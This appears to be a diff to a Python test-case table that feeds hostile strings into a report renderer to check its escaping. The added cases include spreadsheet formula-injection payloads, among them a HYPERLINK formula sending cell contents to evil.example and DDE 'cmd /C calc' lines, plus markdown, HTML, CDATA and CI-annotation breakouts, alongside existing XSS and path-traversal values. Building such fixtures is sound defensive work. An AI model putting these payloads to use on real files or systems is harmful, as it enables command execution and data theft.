@@ -21,6 +21,34 @@ _LINES = {
     "lines": "a\u2028b\u2029c\x0bd\x0ce\x85f",
     "tooltip": "`a` <code title='&lt;img src=x onerror=canary=1&gt;'>b</code>",
 }
+_CELLS = {
+    "equals": '=HYPERLINK("https://evil.example/?"&A1)',
+    "plus": "+1+1",
+    "minus": "-2+3+cmd|' /C calc'!A0",
+    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "tab": "\t=1+1",
+    "tabs": "x\t=1+1",
+    "return": "\r=1+1",
+    "space": " \u00a0\u3000=1+1",
+    "wide": "\uff1d1+1",
+    "wide-at": "\uff20SUM(1)",
+    "unseen": "\u200b\ufeff=1+1",
+    "semicolon": "x;=1+1;@SUM(1)",
+    "quotes": '""=1+1",=2+2',
+    "apostrophe": "'=1+1",
+    "bar": "x|=1+1",
+}
+_MARKDOWN = {
+    "image": "![x](https://evil.example/a.png)",
+    "link": "[x](https://evil.example/) https://evil.example www.evil.example a@evil.example",
+    "mention": "@octocat @github/team #1 GH-1 octocat/repo#2",
+    "fold": "</summary></details><h1>x</h1><details open>",
+    "cell": "x | y \\| z \\\\| `|`",
+    "math": "$\\unicode{x}$ $$x$$ ```math",
+    "sarif": "{0} [x](1) \\[x\\](https://evil.example/)",
+    "cdata": "]]><failure/><![CDATA[ &#0; &x;",
+    "annotation": "x,line=1,title=y::z%0A::error file=a::b",
+}
 _PLACES = {
     "title": Place.TITLE,
     "heading": Place.HEADING,
@@ -58,6 +86,7 @@ _FOLDERS = {
     "long": "a" * 200,
     "wide": "\u0456\u0445\u0430\u043c\u0440\u04cf\u0435",
 }
+_FORMULAS = {"equals": "=1+1", "at": "@SUM(1)", "minus": "-1+1", "semicolon": "x;=1+1", "wide-equals": "\uff1d1"}
 _FRONT = {
     "title": "title: <img src=x onerror=canary=1>",
     "template": "template: ../../../secret.txt",
@@ -99,7 +128,9 @@ _CHARACTERS = {
 
 CASES: tuple[Case, ...] = (
     *(case for name, place in _PLACES.items() for case in cases(name, place, _LINES)),
-    *cases("folder", Place.FOLDER, _FOLDERS),
+    *(case for name, place in _PLACES.items() for case in cases(f"markdown-{name}", place, _MARKDOWN)),
+    *(case for place in (Place.TITLE, Place.WAIVER, Place.ALT) for case in cases(f"cell-{place.name}", place, _CELLS)),
+    *cases("folder", Place.FOLDER, {**_FOLDERS, **_FORMULAS}),
     *cases("front", Place.FRONT, _FRONT),
     *cases("character", Place.ANSWER, _CHARACTERS),
 )
